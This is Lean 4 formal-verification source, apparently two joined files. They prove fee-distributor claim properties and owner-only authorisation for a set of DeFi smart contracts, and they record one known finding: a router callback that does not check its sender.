    ∀ e₁, Changed s s₁ e₁ → ∀ e₃, Changed (reach cfg s₁ ops) s₃ e₃ → e₁.id < e₃.id := by
  intro e₁ he₁ e₃ he₃
  obtain ⟨b₁, top₁, _, hl₁, hc₁⟩ := claim_changes_above_bound s s₁ hI u view₁ ans₁ paid₁ h₁
  have hI₁ : Inv s₁ := claim_inv hI h₁
  have hI₂ : Inv (reach cfg s₁ ops) := reach_inv cfg ops s₁ hI₁
  obtain ⟨lc, hlc, hge⟩ := reach_lastGe cfg ops s₁ hI₁ (⟨top₁, hl₁, Nat.le_refl _⟩ : LastGe s₁ u top₁)
  obtain ⟨b₂, top₂, hb₂, _, hc₂⟩ := claim_changes_above_bound _ s₃ hI₂ u view₂ ans₂ paid₂ h₂
  have : b₂ = lc := by
    unfold claimBound at hb₂; rw [hlc] at hb₂; injection hb₂ with hb₂; exact hb₂.symm
  have h1 := (hc₁ e₁ he₁).2
  have h3 := (hc₂ e₃ he₃).1
  omega

/-- **not_before_bonding** (ids) — an address that has never claimed is only paid for epochs after the
    one the lair reports as its first bonded epoch; an address that has neither claimed nor bonded gets
    nothing. -/
theorem not_before_bonding (s s' : St) (hI : Inv s) (u fb : Nat) (ans : Nat → LairAns) (paid : Nat)
    (hnever : lookup u s.last = none) (h : claim s u (some fb) ans = .ok (s', paid)) :
    ∀ e, Changed s s' e → fb < e.id := by
  obtain ⟨b, top, hb, _, hc⟩ := claim_changes_above_bound s s' hI u (some fb) ans paid h
  have : b = fb := by
    unfold claimBound at hb; rw [hnever] at hb; injection hb with hb; exact hb.symm
  intro e he
  have := (hc e he).1
  omega

theorem never_bonded_gets_nothing (s : St) (u : Nat) (ans : Nat → LairAns)
    (hnever : lookup u s.last = none) : claim s u none ans = .err := by
  unfold claim claimBound
  rw [hnever]

/-- **not_before_bonding** (times) — with the lair's definition of the first bonded epoch
    (`calculate_epoch`: the bond time lies before `genesis + fb·duration`), over all histories from
    instantiation every epoch paid to a never-claimed address started strictly after it bonded. -/
theorem not_before_bonding_time (cfg : Cfg) (g : Nat) (hg : 1 ≤ g) (ops : List Op) (u fb bondTime : Nat)
    (hlair : bondTime < cfg.genesis + fb * cfg.duration)
    (ans : Nat → LairAns) (s' : St) (paid : Nat)
    (hnever : lookup u (reach cfg (St.init g) ops).last = none)
    (h : claim (reach cfg (St.init g) ops) u (some fb) ans = .ok (s', paid)) :
    ∀ e, Changed (reach cfg (St.init g) ops) s' e → bondTime < e.start := by
  intro e he
  have hI := reach_inv cfg ops _ (inv_init g hg)
  have hid := not_before_bonding _ s' hI u fb ans paid hnever h e he
  have hN : Nominal cfg (reach cfg (St.init g) ops).epochs :=
    reach_nominal cfg ops _ (by intro x hx; cases hx)
  have hN' : Nominal cfg s'.epochs := by
    have hstep : step cfg (reach cfg (St.init g) ops) (.claim u (some fb) ans) = .ok s' := by
      simp only [step, h]
    exact step_nominal hN hstep
  obtain ⟨_, hst⟩ := hN' e he.1
  rw [hst]
  have : fb * cfg.duration ≤ (e.id - 1) * cfg.duration := Nat.mul_le_mul_right _ (by omega)
  omega

/-- grace periods: `UpdateConfig` accepts exactly 1 … 30 (documented maximum, regenerated from the
    sources on every run) and never a decrease -/
theorem grace_bounds (cfg : Cfg) (s s' : St) (sender g : Nat) (h : updateGrace cfg s sender g = .ok s') :
    s'.grace = g ∧ s.grace ≤ g ∧ 1 ≤ g ∧ g ≤ 30 ∧ sender = cfg.owner := by
  unfold updateGrace at h
  split at h
  · cases h
  · rename_i hs
    split at h
    · cases h
    · rename_i hb
      split at h
      · cases h
      · injection h with h
        subst h
        have : WW.Gen.DISTRIBUTOR_MAX_GRACE_PERIOD = 30 := by decide
        refine ⟨rfl, by omega, by omega, by omega, Classical.not_not.mp hs⟩

/-! ### non-vacuity: a concrete history on the model -/

def cfg0 : Cfg := { genesis := 1000, duration := 100, owner := 7 }
def half : Nat → LairAns := fun _ => .share 500000000000000000
def third : Nat → LairAns := fun _ => .share 333333333333333333

/-- grace 2: epoch 1 receives 1000, user 1 (first bonded epoch 0) claims half of it; epoch 2 receives 301;
    user 2 claims a third of both; epoch 3 is created with inflow 50: epoch 1 leaves the window and its
    remainder 167 is added to epoch 3 exactly once (total 217) and its own `available` is emptied;
    the grace period is raised to 3 and epoch 4 created: epoch 1 is inside the window again but empty, so
    nothing is rolled a second time (total 9). -/
def hist0 : List Op :=
  [ .newEpoch 1000 (some 1000), .claim 1 (some 0) half, .newEpoch 1100 (some 301), .claim 2 (some 0) third,
    .newEpoch 1200 (some 50), .grace 7 3, .newEpoch 1300 (some 9), .claim 1 (some 0) half ]

example : (reach cfg0 (St.init 2) hist0).epochs =
    [ { id := 4, start := 1300, total := some 9, avail := some 5, claimed := some 4 },
      { id := 3, start := 1200, total := some 217, avail := some 109, claimed := some 108 },
      { id := 2, start := 1100, total := some 301, avail := some 51, claimed := some 250 },
      { id := 1, start := 1000, total := some 1000, avail := none, claimed := some 833 } ] := by decide

example : (reach cfg0 (St.init 2) hist0).bal = 165 ∧ sumAvail (reach cfg0 (St.init 2) hist0).epochs = 165 := by decide

/-- the hypotheses of `once_per_epoch` are satisfiable: two successful claims by the same address -/
example : ∃ s₁ p₁ s₃ p₃, claim (reach cfg0 (St.init 2) (hist0.take 1)) 1 (some 0) half = .ok (s₁, p₁) ∧ p₁ = 500 ∧
    claim (reach cfg0 s₁ [.newEpoch 1100 (some 301)]) 1 (some 0) half = .ok (s₃, p₃) ∧ p₃ = 150 := by
  refine ⟨_, _, _, _, rfl, by decide, rfl, by decide⟩

end WW.C09
