/-
  C16 — Only the owner (or the contract itself) can perform privileged operations.
  Property theorems only (helpers live in WW/Proofs/Auth). The model is the table `requires`
  (contract × ExecuteMsg variant → rule on the sender) with the guarded dispatch `step` of
  WW/Model/Auth; it is tied to the 15 real contracts by the exhaustive `authmatrix` engine
  (every variant × every role × {before, after ownership transfer, inside a flash-loan callback of the
  vault} × randomised payloads; one cell per named flow for `CloseFlow`).

  "In every state": the theorems quantify over ALL states `s : St` — any owners, a loan of the vault in
  flight or not (`s.loan`), any list of stored flows (`s.flows`, any creators, colliding labels).

  `err` carries no state: a rejected call leaves the state unchanged by construction (`Res`).
-/
import WW.Proofs.Auth
namespace WW.C16
open WW WW.Auth

/-! ## unauthorised ⇒ rejected -/

/-- Clause "an attempt by anyone else fails": for every state, every variant of every contract that
    has a rule and EVERY address that does not satisfy it, the call is rejected. -/
theorem unauthorised_rejected_any_address (s : St) (m : Msg) (rule : AuthRule) (pl : Payload)
    (p : Principal) (hr : requires m = some rule) (hp : holds s m.contract pl.flow rule p = false) :
    stepP s m pl p = .err := by
  apply stepP_err_of_not_admits
  rw [admitsP_of_rule pl.flow p hr]
  exact hp

/-- The same for the caller roles of the matrix (∀ contract, variant, role, state). -/
theorem unauthorised_rejected (s : St) (m : Msg) (rule : AuthRule) (pl : Payload) (r : Role)
    (hr : requires m = some rule) (hp : holds s m.contract pl.flow rule (resolve m.contract r) = false) :
    step s m pl r = .err :=
  unauthorised_rejected_any_address s m rule pl _ hr hp

/-- A history is a list of calls; a failed call is skipped (the transaction reverted). -/
def applyCall (s : St) (c : Msg × Payload × Principal) : St :=
  match stepP s c.1 c.2.1 c.2.2 with
  | .ok s' => s'
  | _ => s

def reach (s : St) (h : List (Msg × Payload × Principal)) : St := h.foldl applyCall s

/-- "… and leaves all storage unchanged": a rejected call does not move the state. -/
theorem rejected_unchanged (s : St) (m : Msg) (pl : Payload) (p : Principal)
    (h : admitsP s m pl.flow p = false) : applyCall s (m, pl, p) = s := by
  unfold applyCall
  rw [stepP_err_of_not_admits h]

/-- The dispatch never panics. -/
theorem never_panics (s : St) (m : Msg) (pl : Payload) (r : Role) : step s m pl r ≠ .panic :=
  stepP_never_panics s m pl _

/-! ## transient state: a flash loan in flight -/

/-- For every variant with a sender rule the verdict is the rule itself in EVERY state: whether a loan of
    the vault is in flight makes no difference (`holds` does not read the flag). -/
theorem privileged_verdict_ignores_loan (s : St) (b : Bool) (m : Msg) (rule : AuthRule) (sel : FlowSel)
    (p : Principal) (hr : requires m = some rule) :
    admitsP (s.withLoan b) m sel p = admitsP s m sel p := by
  rw [admitsP_of_rule sel p hr, admitsP_of_rule sel p hr]
  exact holds_withLoan s b m.contract sel rule p

/-- A call made from inside a flash-loan callback is admitted only if the same call is admitted on the
    idle contracts: a loan in flight gives nobody a right. -/
theorem loan_in_flight_admits_nobody_new (s : St) (m : Msg) (sel : FlowSel) (p : Principal)
    (h : admitsP (s.withLoan true) m sel p = true) : admitsP (s.withLoan false) m sel p = true := by
  cases hr : requires m with
  | some rule =>
    rw [privileged_verdict_ignores_loan s true m rule sel p hr] at h
    rw [privileged_verdict_ignores_loan s false m rule sel p hr]
    exact h
  | none => simp [admitsP, hr, St.withLoan]

/-- The ONLY difference a loan in flight makes to the authorisation layer: the loan-guarded entry point
    refuses everybody. -/
theorem loan_changes_only_the_loan_guard (s : St) (m : Msg) (sel : FlowSel) (p : Principal) :
    admitsP (s.withLoan true) m sel p = (!loanGuarded m && admitsP (s.withLoan false) m sel p) := by
  cases hr : requires m with
  | some rule =>
    rw [privileged_verdict_ignores_loan s true m rule sel p hr,
      privileged_verdict_ignores_loan s false m rule sel p hr,
      rule_not_loanGuarded m (by rw [hr]; rfl)]
    rfl
  | none => simp [admitsP, hr, St.withLoan]

/-- … and that entry point is the vault's `FlashLoan` (nested loans), nothing else. -/
theorem loan_guard_is_nested_loan_only : ∀ m : Msg, loanGuarded m = true ↔ m = .vault .FlashLoan :=
  forall_msg_of_all (by decide)

/-- With a loan in flight a nested loan on the vault is refused for EVERY sender. -/
theorem nested_loan_refused_for_all (s : St) (hl : s.loan = true) (sel : FlowSel) (p : Principal) :
    admitsP s (.vault .FlashLoan) sel p = false := by
  simp [admitsP, hl, loanGuarded]

/-- Owner-guarded variants (all configuration, creation / removal, migration, hook and toggle messages) admit
    exactly the stored owner — whatever else the state holds (loan in flight, any flows). -/
theorem owner_guarded_iff (s : St) (m : Msg) (sel : FlowSel) (p : Principal) (h : requires m = some .owner) :
    admitsP s m sel p = true ↔ p = s.owner m.contract := by
  rw [admitsP_of_rule sel p h]
  exact holds_owner_iff s m.contract sel p

/-- The borrower of a flash loan cannot reconfigure the vault from inside its callback (unless it already
    is the vault's owner). -/
theorem vault_config_in_loan_owner_only (s : St) (pl : Payload) (p : Principal)
    (hp : p ≠ s.owner .vault) : stepP (s.withLoan true) (.vault .UpdateConfig) pl p = .err := by
  apply stepP_err_of_not_admits
  cases h : admitsP (s.withLoan true) (.vault .UpdateConfig) pl.flow p with
  | false => rfl
  | true => exact absurd ((owner_guarded_iff _ _ _ _ rfl).mp h) hp

/-! ## guarded dispatch = table lookup (refinement) -/

/-- The authorisation verdict is exactly the table entry evaluated on the sender. -/
theorem admits_is_table_lookup (s : St) (m : Msg) (sel : FlowSel) (r : Role) :
    admits s m sel r = (!(s.loan && loanGuarded m) && match requires m with
      | none => true
      | some rule => holds s m.contract sel rule (resolve m.contract r)) := rfl

/-- `step` succeeds iff the table admits the sender and every internal message the handler sends on;
    when it succeeds the only thing it writes is the owner named in the payload. -/
theorem guarded_dispatch_refines_table (s : St) (m : Msg) (pl : Payload) (r : Role) (s' : St) :
    step s m pl r = .ok s' ↔
      (admits s m pl.flow r = true ∧ subcallsAdmitted s m = true ∧ s' = effect s m pl) :=
  stepP_ok_iff

/-- A designated sender is admitted (the check does not lock the owner out): rule satisfied and
    internal flows admitted ⇒ the call goes through. -/
theorem authorised_admitted (s : St) (m : Msg) (pl : Payload) (r : Role)
    (h : admits s m pl.flow r = true) (hs : subcallsAdmitted s m = true) :
    step s m pl r = .ok (effect s m pl) :=
  (guarded_dispatch_refines_table s m pl r _).mpr ⟨h, hs, rfl⟩

/-- Permissionless entry points admit every sender in every state in which they are not loan-guarded
    (i.e. everywhere, except the vault's `FlashLoan` while a loan is in flight). -/
theorem permissionless_admits_all (s : St) (m : Msg) (sel : FlowSel) (p : Principal) (h : requires m = none)
    (hl : (s.loan && loanGuarded m) = false) : admitsP s m sel p = true := by
  unfold admitsP
  rw [h, hl]
  rfl

/-! ## the complete list of permissionless variants (for the reader to audit) -/

def permissionless : List Msg :=
  [ .terraswap_pair .ProvideLiquidity, .terraswap_pair .WithdrawLiquidity, .terraswap_pair .Swap,
    .terraswap_pair .CollectProtocolFees,
    .stableswap_3pool .ProvideLiquidity, .stableswap_3pool .WithdrawLiquidity, .stableswap_3pool .Swap,
    .stableswap_3pool .CollectProtocolFees,
    .terraswap_router .Receive_ExecuteSwapOperations, .terraswap_router .ExecuteSwapOperations,
    .terraswap_router .AssertMinimumReceive,   -- ← open in the code; the property wants `self` (known finding)
    .terraswap_token .Transfer, .terraswap_token .Burn, .terraswap_token .Send,
    .terraswap_token .IncreaseAllowance, .terraswap_token .DecreaseAllowance,
    .terraswap_token .TransferFrom, .terraswap_token .SendFrom, .terraswap_token .BurnFrom,
    .incentive .TakeGlobalWeightSnapshot, .incentive .OpenFlow, .incentive .OpenPosition,
    .incentive .ExpandPosition, .incentive .ClosePosition, .incentive .Withdraw, .incentive .Claim,
    .incentive .ExpandFlow,
    .frontend_helper .Deposit,
    .vault .Deposit, .vault .Withdraw, .vault .FlashLoan, .vault .CollectProtocolFees,
    .vault_router .FlashLoan,
    .fee_collector .CollectFees, .fee_collector .AggregateFees,
    .fee_distributor .NewEpoch, .fee_distributor .Claim,
    .whale_lair .Bond, .whale_lair .Unbond, .whale_lair .Withdraw,
    .epoch_manager .CreateEpoch ]

/-- A variant has no sender rule iff it is in the list above — nothing else is permissionless. -/
theorem permissionless_listed : ∀ m : Msg, requires m = none ↔ m ∈ permissionless :=
  forall_msg_of_all (by decide)

/-- Every other variant — configuration changes, creation / removal, migrations, route and hook
    management, fee and toggle updates, callbacks, cw20 hooks, minting — carries a rule. -/
theorem privileged_have_rule (m : Msg) (h : m ∉ permissionless) : ∃ rule, requires m = some rule := by
  cases hr : requires m with
  | none => exact absurd ((permissionless_listed m).mp hr) h
  | some rule => exact ⟨rule, rfl⟩

/-- The code's table and the property's intent differ in exactly one cell. -/
theorem intended_differs_only_at_amr :
    ∀ m : Msg, intended m ≠ requires m ↔ m = .terraswap_router .AssertMinimumReceive :=
  forall_msg_of_all (by decide)

/-! ## ownership transfer -/

/-- the contract's own message that rewrites its owner (12 contracts store one) -/
def ownUpdateConfig : Contract → Option Msg
  | .terraswap_factory => some (.terraswap_factory .UpdateConfig)
  | .terraswap_pair => some (.terraswap_pair .UpdateConfig)
  | .stableswap_3pool => some (.stableswap_3pool .UpdateConfig)
  | .incentive_factory => some (.incentive_factory .UpdateConfig)
  | .frontend_helper => some (.frontend_helper .UpdateConfig)
  | .vault_factory => some (.vault_factory .UpdateConfig)
  | .vault => some (.vault .UpdateConfig)
  | .vault_router => some (.vault_router .UpdateConfig)
  | .fee_collector => some (.fee_collector .UpdateConfig)
  | .fee_distributor => some (.fee_distributor .UpdateConfig)
  | .whale_lair => some (.whale_lair .UpdateConfig)
  | .epoch_manager => some (.epoch_manager .UpdateConfig)
  | .terraswap_router | .terraswap_token | .incentive => none

/-- Clause "after ownership is transferred the old owner loses and the new owner gains these rights",
    for every contract with a transferable owner, every state, every current owner and every new owner:
    the owner's `UpdateConfig{owner := n}` succeeds, and afterwards an address is admitted to an
    owner-guarded variant of that contract iff it is `n`. -/
theorem transfer_ownership (c : Contract) (uc : Msg) (huc : ownUpdateConfig c = some uc)
    (s : St) (n : Principal) (sel : FlowSel) :
    ∃ s', stepP s uc ⟨some n, sel⟩ (s.owner c) = .ok s' ∧ s'.owner c = n ∧
      ∀ m : Msg, m.contract = c → requires m = some .owner →
        ∀ (sel' : FlowSel) (p : Principal), admitsP s' m sel' p = true ↔ p = n := by
  have key : uc.contract = c ∧ requires uc = some .owner ∧ subcalls uc = [] ∧ ownerTarget uc = some c ∧
      uc ≠ .incentive .CloseFlow := by
    cases c <;> simp [ownUpdateConfig] at huc <;> subst huc <;> decide
  obtain ⟨hc, hr, hsub, ht, hncf⟩ := key
  have heff : effect s uc ⟨some n, sel⟩ = s.setOwner c n := by
    have h1 : ownerEffect s uc (some n) = s.setOwner c n := by
      unfold ownerEffect
      rw [ht]
    have h2 : ∀ t : St, flowEffect t uc sel = t := by
      intro t
      unfold flowEffect
      split
      · exact absurd rfl hncf
      · rfl
    unfold effect
    rw [h1, h2]
  refine ⟨s.setOwner c n, ?_, setOwner_same s c n, ?_⟩
  · rw [stepP_ok_iff]
    refine ⟨?_, ?_, heff.symm⟩
    · rw [owner_guarded_iff _ _ _ _ hr, hc]
    · unfold subcallsAdmitted
      rw [hsub]
      rfl
  · intro m hm hreq sel' p
    rw [owner_guarded_iff _ _ _ _ hreq, hm, setOwner_same]

/-- In particular the old owner is locked out (unless it named itself) and the new owner is in. -/
theorem transfer_ownership_old_new (c : Contract) (uc : Msg) (huc : ownUpdateConfig c = some uc)
    (s : St) (n : Principal) (hn : n ≠ s.owner c) (sel : FlowSel) :
    ∃ s', stepP s uc ⟨some n, sel⟩ (s.owner c) = .ok s' ∧
      ∀ m : Msg, m.contract = c → requires m = some .owner → ∀ sel' : FlowSel,
        admitsP s' m sel' n = true ∧ admitsP s' m sel' (s.owner c) = false := by
  obtain ⟨s', h1, _, h3⟩ := transfer_ownership c uc huc s n sel
  refine ⟨s', h1, fun m hm hr sel' => ⟨(h3 m hm hr sel' n).mpr rfl, ?_⟩⟩
  cases h : admitsP s' m sel' (s.owner c) with
  | false => rfl
  | true => exact absurd ((h3 m hm hr sel' _).mp h).symm hn

/-- Children are transferred through their factory: while the factory owns the child, the factory
    owner's `Update{Pair,Trio,Vault}Config{owner := n}` moves the child's owner to `n`; afterwards the
    factory itself is refused by the child (if `n` is not the factory) and a further forwarding call
    fails as a whole. -/
theorem transfer_child_via_factory (fm : Msg) (child fac : Contract)
    (h : (fm, child, fac) ∈
      [ (Msg.terraswap_factory .UpdatePairConfig, Contract.terraswap_pair, Contract.terraswap_factory),
        (Msg.terraswap_factory .UpdateTrioConfig, Contract.stableswap_3pool, Contract.terraswap_factory),
        (Msg.vault_factory .UpdateVaultConfig, Contract.vault, Contract.vault_factory) ])
    (s : St) (n : Principal) (hown : s.owner child = .contract fac) (hn : n ≠ .contract fac) (sel : FlowSel) :
    ∃ s', stepP s fm ⟨some n, sel⟩ (s.owner fac) = .ok s' ∧ s'.owner child = n ∧
      (∀ uc, ownUpdateConfig child = some uc → ∀ sel', admitsP s' uc sel' (.contract fac) = false) ∧
      (∀ pl p, stepP s' fm pl p = .err) := by
  simp only [List.mem_cons, Prod.mk.injEq, List.mem_nil_iff, or_false] at h
  rcases h with ⟨rfl, rfl, rfl⟩ | ⟨rfl, rfl, rfl⟩ | ⟨rfl, rfl, rfl⟩
  all_goals
    refine ⟨s.setOwner _ n, ?_, setOwner_same _ _ _, ?_, ?_⟩
    · rw [stepP_ok_iff]
      refine ⟨?_, ?_, rfl⟩
      · exact (owner_guarded_iff _ _ _ _ rfl).mpr rfl
      · simp [subcallsAdmitted, subcalls, admitsP, requires, holds, Msg.contract, loanGuarded, hown]
    · intro uc huc sel'
      simp [ownUpdateConfig] at huc
      subst huc
      simp [admitsP, requires, holds, Msg.contract, St.setOwner, loanGuarded]
      exact fun h => hn h.symm
    · intro pl p
      unfold stepP
      split
      · rw [if_neg]
        simp [subcallsAdmitted, subcalls, admitsP, requires, holds, Msg.contract, St.setOwner, loanGuarded]
        exact fun h => hn h.symm
      · rfl

/-- Over any history the owner of a contract moves only through a message that targets it and that the
    table admitted — and every such message is owner-guarded (in any state: a loan in flight, any flows). -/
theorem owner_moves_only_by_admitted_owner_call (s s' : St) (m : Msg) (pl : Payload)
    (p : Principal) (c : Contract) (h : stepP s m pl p = .ok s') (hc : s'.owner c ≠ s.owner c) :
    ownerTarget m = some c ∧ requires m = some .owner ∧ p = s.owner m.contract := by
  obtain ⟨hadm, _, heff⟩ := stepP_ok_iff.mp h
  have ht : ownerTarget m = some c := by
    subst heff
    unfold effect at hc
    rw [flowEffect_owner] at hc
    unfold ownerEffect at hc
    cases hot : ownerTarget m with
    | none => rw [hot] at hc; exact absurd rfl hc
    | some c' =>
      rw [hot] at hc
      cases hno : pl.newOwner with
      | none => rw [hno] at hc; exact absurd rfl hc
      | some n =>
        rw [hno] at hc
        by_cases hcc : c = c'
        · rw [hcc]
        · exact absurd (setOwner_other s n hcc) hc
  have hreq : requires m = some .owner := by
    have : ∀ m : Msg, ∀ c, ownerTarget m = some c → requires m = some .owner := by
      intro m
      exact (forall_msg_of_all (P := fun m => ∀ c, ownerTarget m = some c → requires m = some .owner)
        (by decide)) m
    exact this m c ht
  exact ⟨ht, hreq, (owner_guarded_iff s m pl.flow p hreq).mp hadm⟩

/-- The transfer script the harness runs between the two phases succeeds in the model and hands every
    stored owner to `newOwner`. -/
theorem transfer_script_result (c : Contract) :
    (St.afterTransfer.toOption.map fun s => s.owner c) = some (afterOwner c) := by
  cases c <;> rfl

/-- Matrix form, all phases, every owner-guarded variant of every contract: before the transfer the
    future owner is refused — also from inside a flash-loan callback —; after it the previous owner is
    refused and the new owner admitted. -/
theorem transfer_matrix :
    ∀ m : Msg, requires m = some .owner →
      admits St.init m .none .newOwner = false ∧ admits (St.init.withLoan true) m .none .newOwner = false ∧
      admits afterSt m .none .owner = false ∧ admits afterSt m .none .newOwner = true :=
  forall_msg_of_all (by decide)

/-! ## stored objects: WHICH flow a message denotes, and whose it is -/

/-- `CloseFlow` on an existing flow is admitted for the creator of THE FLOW THE MESSAGE DENOTES (the first
    match in storage order) and for the incentive factory's owner — nobody else, in every state, for ids
    and for (non-unique) labels alike. -/
theorem close_flow_admits_iff (s : St) (sel : FlowSel) (f : Flow) (p : Principal)
    (h : s.resolve sel = some f) :
    admitsP s (.incentive .CloseFlow) sel p = true ↔ (p = f.creator ∨ p = s.owner .incentive_factory) := by
  rw [admitsP_of_rule (rule := .flowCreatorOrFactoryOwner) sel p rfl]
  simp [holds, h]

/-- Having created OTHER flows — under the same label or not — gives no right over the flow a message
    denotes: whoever is neither that flow's creator nor the factory owner is rejected. -/
theorem other_flows_give_no_right (s : St) (pl : Payload) (f : Flow) (p : Principal)
    (h : s.resolve pl.flow = some f) (hc : p ≠ f.creator) (ho : p ≠ s.owner .incentive_factory) :
    stepP s (.incentive .CloseFlow) pl p = .err := by
  apply stepP_err_of_not_admits
  cases hh : admitsP s (.incentive .CloseFlow) pl.flow p with
  | false => rfl
  | true =>
    rcases (close_flow_admits_iff s pl.flow f p h).mp hh with h1 | h1
    · exact absurd h1 hc
    · exact absurd h1 ho

/-- What a successful `CloseFlow` does to the authorisation state: it removes the denoted flow and nothing
    else (owners and the loan flag are not touched). -/
theorem close_flow_removes_exactly_denoted (s s' : St) (pl : Payload) (p : Principal)
    (h : stepP s (.incentive .CloseFlow) pl p = .ok s') :
    s'.owner = s.owner ∧ s'.loan = s.loan ∧
      s'.flows = (match s.resolve pl.flow with
        | some f => s.flows.erase f
        | none => s.flows) := by
  obtain ⟨_, _, heff⟩ := stepP_ok_iff.mp h
  subst heff
  have h0 : ownerEffect s (.incentive .CloseFlow) pl.newOwner = s := by
    unfold ownerEffect
    rfl
  unfold effect
  rw [h0]
  refine ⟨flowEffect_owner _ _ _, flowEffect_loan _ _ _, ?_⟩
  unfold flowEffect
  cases s.resolve pl.flow <;> rfl

/-- The monitor's statement, for the model: whichever flow a successful `CloseFlow` removed, it is one the
    identifier names, the sender was its creator or the factory owner, and every other flow is still there. -/
theorem closed_flow_belongs_to_sender (s s' : St) (pl : Payload) (p : Principal) (f : Flow)
    (h : stepP s (.incentive .CloseFlow) pl p = .ok s') (hf : s.resolve pl.flow = some f) :
    s'.flows = s.flows.erase f ∧ f.matches pl.flow = true ∧
      (p = f.creator ∨ p = s.owner .incentive_factory) ∧
      (∀ g ∈ s.flows, g ≠ f → g ∈ s'.flows) := by
  obtain ⟨_, _, h3⟩ := close_flow_removes_exactly_denoted s s' pl p h
  rw [hf] at h3
  obtain ⟨hadm, _, _⟩ := stepP_ok_iff.mp h
  refine ⟨h3, (resolve_some hf).2, (close_flow_admits_iff s pl.flow f p hf).mp hadm, ?_⟩
  intro g hg hne
  rw [h3]
  exact (List.mem_erase_of_ne hne).mpr hg

/-- No other message touches the stored flows. -/
theorem only_close_flow_touches_flows (s s' : St) (m : Msg) (pl : Payload) (p : Principal)
    (h : stepP s m pl p = .ok s') (hm : m ≠ .incentive .CloseFlow) : s'.flows = s.flows := by
  obtain ⟨_, _, heff⟩ := stepP_ok_iff.mp h
  subst heff
  unfold effect flowEffect
  split
  · exact absurd rfl hm
  · exact ownerEffect_flows s m pl.newOwner

/-- The incentive contract stores no owner: closing a flow follows the incentive FACTORY's owner, so a
    transfer of the factory moves this right as well (the flow's creator keeps it). -/
theorem close_flow_follows_factory_owner (s : St) (n : Principal) (sel : FlowSel) (f : Flow) (p : Principal)
    (h : s.resolve sel = some f) :
    admitsP (s.setOwner .incentive_factory n) (.incentive .CloseFlow) sel p = true ↔
      (p = f.creator ∨ p = n) := by
  have h' : (s.setOwner .incentive_factory n).resolve sel = some f := h
  rw [close_flow_admits_iff _ sel f p h', setOwner_same]

/-! ## internal callbacks: designated contract only -/

/-- the contract designated to send each internal callback -/
def designated : Msg → Option Principal
  | .vault .Callback_AfterTrade => some (.contract .vault)
  | .terraswap_router .ExecuteSwapOperation => some (.contract .terraswap_router)
  | .terraswap_router .AssertMinimumReceive => some (.contract .terraswap_router)
  | .vault_router .NextLoan => some (.contract .vault)
  | .vault_router .CompleteLoan => some (.contract .vault_router)
  | .fee_collector .ForwardFees => some (.contract .fee_distributor)
  | _ => none

/-- FULL statement of the clause: every internal callback (vault AfterTrade, router single hop and
    minimum-receive, vault-router NextLoan / CompleteLoan, collector ForwardFees) is admitted for the
    designated contract and for nobody else, in every state. -/
def CallbacksDesignatedOnly : Prop :=
  ∀ (m : Msg) (d : Principal), designated m = some d →
    ∀ (s : St) (sel : FlowSel) (p : Principal), admitsP s m sel p = true ↔ p = d

/-- Witness of the known finding `C16-router-assert-min-receive-open`: the model — like
    terraswap_router/src/contract.rs, whose `AssertMinimumReceive` arm never looks at `info.sender` —
    admits EVERY sender in every state. (Replay: replays/known/C16-router-assert-min-receive-open.json;
    two baseline tests `assert_minimum_receive_*` require this behaviour, so it is not repaired.) -/
theorem C16_router_amr_open (s : St) (sel : FlowSel) (p : Principal) :
    admitsP s (.terraswap_router .AssertMinimumReceive) sel p = true := by
  simp [admitsP, requires, loanGuarded]

/-- Hence the full clause is false on the current code (kernel-checked negation). -/
theorem C16_fails_on_current : ¬ CallbacksDesignatedOnly := by
  intro h
  have := (h (.terraswap_router .AssertMinimumReceive) _ rfl St.init .none (.acct .user)).mp
    (C16_router_amr_open _ _ _)
  cases this

/-- What holds: the clause for the five callbacks other than `AssertMinimumReceive`
    (missing for the full statement: a sender check in the router's `AssertMinimumReceive`). -/
theorem callbacks_designated_only_partial (m : Msg) (d : Principal) (hd : designated m = some d)
    (hm : m ≠ .terraswap_router .AssertMinimumReceive) (s : St) (sel : FlowSel) (p : Principal) :
    admitsP s m sel p = true ↔ p = d := by
  have cases5 : m = .vault .Callback_AfterTrade ∨ m = .terraswap_router .ExecuteSwapOperation ∨
      m = .vault_router .NextLoan ∨ m = .vault_router .CompleteLoan ∨ m = .fee_collector .ForwardFees := by
    have hsome : (designated m).isSome = true := by rw [hd]; rfl
    exact (forall_msg_of_all (P := fun m => (designated m).isSome = true →
      m ≠ .terraswap_router .AssertMinimumReceive →
      (m = .vault .Callback_AfterTrade ∨ m = .terraswap_router .ExecuteSwapOperation ∨
        m = .vault_router .NextLoan ∨ m = .vault_router .CompleteLoan ∨ m = .fee_collector .ForwardFees))
      (by decide)) m hsome hm
  rcases cases5 with rfl | rfl | rfl | rfl | rfl <;>
    · simp [designated] at hd
      subst hd
      simp [admitsP, requires, holds, Msg.contract, loanGuarded]

/-- `callbacks_designated_only` for the five, spelled out (every state: also while a loan is in flight). -/
theorem callbacks_designated_only (s : St) (sel : FlowSel) (p : Principal) :
    (admitsP s (.vault .Callback_AfterTrade) sel p = true ↔ p = .contract .vault) ∧
    (admitsP s (.terraswap_router .ExecuteSwapOperation) sel p = true ↔ p = .contract .terraswap_router) ∧
    (admitsP s (.vault_router .NextLoan) sel p = true ↔ p = .contract .vault) ∧
    (admitsP s (.vault_router .CompleteLoan) sel p = true ↔ p = .contract .vault_router) ∧
    (admitsP s (.fee_collector .ForwardFees) sel p = true ↔ p = .contract .fee_distributor) := by
  refine ⟨?_, ?_, ?_, ?_, ?_⟩ <;> simp [admitsP, requires, holds, Msg.contract, loanGuarded]

/-- The sender checks do not block the protocol's own flows: at genesis every internal message a
    handler sends on as itself is admitted by its receiver. -/
theorem internal_flows_admitted : ∀ m : Msg, subcallsAdmitted St.init m = true :=
  forall_msg_of_all (by decide)

/-- The router's route management is guarded by the wasm admin, not by any configured owner
    (recorded assumption: every deployment sets the admin; the harness always does). -/
theorem routes_wasm_admin_only (s : St) (sel : FlowSel) (p : Principal) :
    (admitsP s (.terraswap_router .AddSwapRoutes) sel p = true ↔ p = .acct .wasmAdmin) ∧
    (admitsP s (.terraswap_router .RemoveSwapRoutes) sel p = true ↔ p = .acct .wasmAdmin) := by
  constructor <;> simp [admitsP, requires, holds, loanGuarded]

/-! ## non-vacuity / concrete outputs of the model -/

-- a stranger is refused on a privileged variant, the owner is admitted, at genesis
example : (step St.init (.vault_factory .CreateVault) .plain .user).isOk = false := by decide
example : (step St.init (.vault_factory .CreateVault) .plain .owner).isOk = true := by decide
-- children belong to their factory: the hub owner is refused, the factory admitted …
example : admits St.init (.terraswap_pair .UpdateConfig) .none .owner = false := by decide
